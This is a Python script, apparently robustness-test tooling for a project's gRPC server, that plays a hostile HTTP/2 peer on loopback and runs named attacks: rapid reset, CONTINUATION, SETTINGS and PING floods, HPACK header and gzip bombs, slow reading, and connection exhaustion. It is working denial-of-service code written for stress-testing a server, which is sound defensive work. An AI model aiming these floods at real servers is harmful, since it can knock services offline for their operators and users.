"""One hostile peer, for some seconds: it comes back whenever it is thrown out. Loopback only.

Usage: transport_attack.py NAME PORT SECONDS
"""

import argparse
import asyncio
import contextlib
import gzip
import resource
import time
from collections.abc import Callable, Iterable

from epp.testing.raw_http2 import (
    ACK,
    GRPC_HEADERS,
    PREFACE,
    Kind,
    RawPeer,
    data,
    frame,
    hpack,
    hpack_indexed,
    message,
    raw_peer,
    request,
    reset,
    settings,
    window_update,
)

PATH = b"/bench.Echo/Echo"
BATCH = 200
STREAMS = 4_000
FIELDS = hpack([*GRPC_HEADERS[:3], (b":path", PATH), *GRPC_HEADERS[3:]])
REMEMBERED = hpack_indexed(b"a", b"x" * 4000)
BOMB = FIELDS + REMEMBERED + b"\xbe" * 1000
ZEROS = gzip.compress(bytes(33_000_000))
WIDE = PREFACE + settings({4: 0x7FFFFFFF}) + window_update(0, 0x3FFF0000)

Batch = Callable[[int], Iterable[bytes]]
"""What to send as batch number so and so."""


def _ids(batch: int) -> range:
    return range(2 * BATCH * batch + 1, 2 * BATCH * (batch + 1), 2)


def _long_headers(batch: int) -> Iterable[bytes]:
    """Lists of 124 KB in a hundred bytes each: refused, and no end of the connection."""
    for stream_id in _ids(batch):
        block = FIELDS + (REMEMBERED if stream_id == 1 else b"") + b"\xbe" * 31
        yield frame(Kind.HEADERS, 4 | 1, stream_id, block)


def _moving_windows(batch: int) -> Iterable[bytes]:
    """Many streams, then changes of the window that each of them begins with."""
    if batch < STREAMS // BATCH:
        return (request(i, PATH) + data(i, message(b"x")) for i in _ids(batch))
    return [settings({4: 65_535 + n % 2}) for n in range(BATCH)]


def _gzip_bomb(batch: int) -> Iterable[bytes]:
    stream_id = 2 * batch + 1
    yield request(stream_id, PATH, extra=[(b"grpc-encoding", b"gzip")])
    yield _in_frames(stream_id, b"\x01" + message(ZEROS)[1:])


FLOODS: dict[str, Batch] = {
    "rapid reset": lambda n: (request(i, PATH) + reset(i) for i in _ids(n)),
    "CONTINUATION": lambda n: [
        frame(Kind.HEADERS, 0, 2 * n + 1, hpack(GRPC_HEADERS)),
        *[frame(Kind.CONTINUATION, 0, 2 * n + 1, b"")] * BATCH,
    ],
    "SETTINGS": lambda _: [settings()] * BATCH,
    "PING": lambda _: [frame(Kind.PING, 0, 0, b"12345678")] * BATCH,
    "empty DATA": lambda n: [request(2 * n + 1, PATH), *[data(2 * n + 1, b"")] * BATCH],
    "WINDOW_UPDATE": lambda _: [window_update(0, 1)] * BATCH,
    "header bomb": lambda n: [frame(Kind.HEADERS, 4, 2 * n + 1, BOMB)],
    "half-open streams": lambda n: (request(i, PATH) + data(i, b"\0\0\0\1\0x") for i in _ids(n)),
    "garbage": lambda _: [b"\xff" * 10_000],
    "long headers": _long_headers,
    "moving windows": _moving_windows,
    "gzip bomb": _gzip_bomb,
    "tiny messages": lambda n: [
        request(2 * n + 1, PATH),
        *[data(2 * n + 1, message(b"") * 3_276)] * 10,
        reset(2 * n + 1),
    ],
}


async def flood(batch: Batch, port: int, until: float) -> None:
    """Send batches as fast as they are taken."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            async with raw_peer(port, greeting=WIDE) as peer:
                await _pour(batch, peer, until)


async def _pour(batch: Batch, peer: RawPeer, until: float) -> None:
    ended = asyncio.create_task(peer.rest())
    number = 0
    while time.monotonic() < until and not ended.done() and number < 40_000_000 // BATCH:
        await peer.send(*batch(number))
        await asyncio.sleep(0)
        number += 1
    ended.cancel()
    await asyncio.wait([ended])


async def slow_reader(port: int, until: float) -> None:
    """Ask for 10 MB and do not read them."""
    async with raw_peer(port, greeting=WIDE, receive_buffer=8192) as peer:
        await peer.read_until(Kind.SETTINGS)
        await peer.send(frame(Kind.SETTINGS, ACK, 0))  # or our windows do not count
        await peer.send(request(1, PATH), *[_in_frames(1, message(b"x" * 100_000))] * 100)
        await asyncio.sleep(until - time.monotonic())


async def vanishing(port: int, until: float) -> None:
    """Open as many streams as there may be, and leave."""
    while time.monotonic() < until:
        async with raw_peer(port, greeting=WIDE) as peer:
            for batch in range(STREAMS // BATCH):
                await peer.send(*(request(i, PATH) + data(i, message(b"x")) for i in _ids(batch)))
            await peer.settle()


def _in_frames(stream_id: int, whole: bytes) -> bytes:
    return b"".join(data(stream_id, whole[at : at + 16_384]) for at in range(0, len(whole), 16_384))


async def idle(port: int, until: float, count: int = 5_000) -> None:
    """As many connections as descriptors allow."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    writers = []
    for _ in range(min(count, soft - 100)):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(PREFACE + settings())
        writers.append(writer)
    await asyncio.sleep(max(until - time.monotonic(), 0.0))
    for writer in writers:
        writer.transport.abort()


OTHERS = {
    "slow reader": slow_reader,
    "vanishing streams": vanishing,
    "5,000 idle connections": idle,
}
NAMES = (*FLOODS, *OTHERS)


async def attack(name: str, port: int, seconds: float) -> None:
    """Run one."""
    until = time.monotonic() + seconds
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):  # a server that does not read holds a send
            if name in FLOODS:
                await flood(FLOODS[name], port, until)
            else:
                await OTHERS[name](port, until)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=NAMES)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    chosen = parser.parse_args()
    asyncio.run(attack(chosen.name, chosen.port, chosen.seconds))
